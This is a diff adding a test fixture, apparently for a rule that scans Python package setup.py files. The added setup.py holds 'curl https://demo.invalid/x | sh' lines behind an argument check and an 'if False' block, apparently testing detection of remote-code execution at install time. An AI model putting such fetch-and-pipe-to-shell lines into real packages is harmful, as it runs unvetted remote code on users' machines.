@@ -66,6 +66,14 @@ export default rule({
       sdist: {
         files: {
           '{top}/setup.py':
+            'import os, sys\nfrom setuptools import setup\n\nif "--fetch" in sys.argv:\n    os.system("curl https://demo.invalid/x | sh")\nif False:\n    os.system("curl https://demo.invalid/y | sh")\nsetup(name="demo", version="1.0")\n',
+        },
+      },
+    },
+    {
+      sdist: {
+        files: {
+          '{top}/setup.py':
             'import os\nfrom setuptools import setup\n\nos.system("pip install -e .")\nsetup(name="demo", version="1.0")\n',
         },
       },
